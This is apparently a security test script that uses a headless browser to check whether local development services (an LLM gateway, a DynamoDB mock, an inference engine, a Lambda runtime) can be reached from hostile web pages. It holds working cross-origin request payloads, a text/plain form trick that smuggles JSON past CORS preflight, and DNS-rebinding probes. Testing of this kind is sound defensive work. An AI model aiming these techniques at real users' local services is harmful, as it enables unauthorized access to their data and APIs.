// Attack the service from web pages, and print what their scripts saw as JSON:
// node foreign.mjs <address of a page> <a name that resolves to this machine> <JSON: server → its address>
// `foreign`: what a page of another origin sees. `rebound`: what a page sees whose own name resolves to this
// machine, as in DNS rebinding: for the browser, the servers are of its origin. `missing`: there is no browser.

import { launch } from "./chromium.mjs";

const [address, rebound, servers] = process.argv.slice(2);
const chat = { model: "default", messages: [{ role: "user", content: "hi" }] };
const scan = { TableName: "keys" };
const NEXT = "/2018-06-01/runtime/invocation/next";
// [server, method, path, headers that need no preflight or more, body]
const ATTACKS = [
  ["gateway", "POST", "/v1/chat/completions", {}, chat],
  ["gateway", "POST", "/v1/chat/completions", { "content-type": "text/plain" }, chat],
  ["gateway", "POST", "/v1/chat/completions", { "content-type": "application/json" }, chat],
  ["gateway", "POST", "/graphql", { "content-type": "text/plain" }, { query: "mutation { createTodo(title: \"x\") { id } }" }],
  ["gateway", "GET", "/v1/models", {}],
  ["dynamodb", "POST", "/moto-api/reset", {}],
  ["dynamodb", "POST", "/", { "content-type": "text/plain" }, scan],
  ["dynamodb", "POST", "/", { "x-amz-target": "DynamoDB_20120810.Scan", authorization: "AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/dynamodb/aws4_request" }, scan],
  ["dynamodb", "GET", "/moto-api/data.json", {}],
  ["engine", "POST", "/v1/chat/completions", { "content-type": "text/plain" }, chat],
  ["engine", "POST", "/completion", { "content-type": "application/json" }, { prompt: "hi" }],
  ["engine", "GET", "/slots", {}],
  ["engine", "GET", "/props", {}],
  ["runtime", "GET", NEXT, {}],
  ["runtime", "POST", "/2018-06-01/runtime/init/error", { "content-type": "text/plain" }, {}],
];

const browser = await launch(["localhost", "127.0.0.1"], rebound);
if (!browser) {
  console.log(JSON.stringify({ missing: true }));
  process.exit();
}
try {
  console.log(JSON.stringify({ foreign: await fromAnotherOrigin(), rebound: await fromAReboundName() }));
} finally {
  await browser.close();
}

async function fromAnotherOrigin() {
  const page = await browser.newPage();
  await page.goto(address);
  const addresses = JSON.parse(servers);
  const attacks = ATTACKS.map(([server, method, path, headers, body]) => [addresses[server] + path, method, headers, body]);
  const seen = await page.evaluate(attack, { attacks, modes: ["cors", "no-cors"] });
  await page.evaluate(submitForm, { action: `${addresses.gateway}/v1/chat/completions`, chat: JSON.stringify(chat) });
  return seen;
}

async function fromAReboundName() {
  const seen = [];
  for (const [server, address] of Object.entries(JSON.parse(servers))) {
    const page = await browser.newPage();
    await page.goto(`http://${rebound}:${new URL(address).port}/`); // whatever it shows is of the page's origin
    const own = ATTACKS.filter(([name]) => name === server);
    const attacks = own.map(([, method, path, headers, body]) => [path, method, headers, body]);
    seen.push(...(await page.evaluate(attack, { attacks, modes: ["same-origin"] })));
    await page.close();
  }
  return seen;
}

/** Runs in the page: return what each attack let it see. */
async function attack({ attacks, modes }) {
  const seen = [];
  for (const [url, method, headers, body] of attacks) {
    for (const mode of modes) {
      const options = { method, mode, headers, body: body && JSON.stringify(body), signal: AbortSignal.timeout(2000) };
      const result = await fetch(url, options).then(
        async (reply) => (reply.type === "opaque" ? "nothing" : `${reply.status} ${(await reply.text()).slice(0, 200)}`),
        () => "nothing",
      );
      seen.push(`${method} ${new URL(url, location).pathname} ${result}`);
    }
  }
  return seen;
}

/** Runs in the page: a form is sent without a preflight by every browser. */
function submitForm({ action, chat }) {
  return new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "sink", onload: resolve });
    const form = Object.assign(document.createElement("form"), { action, method: "post", enctype: "text/plain", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: `${chat.slice(0, -1)},"a":"`, value: '"}' }));
    document.body.append(frame, form);
    setTimeout(resolve, 2000);
    form.submit();
  });
}
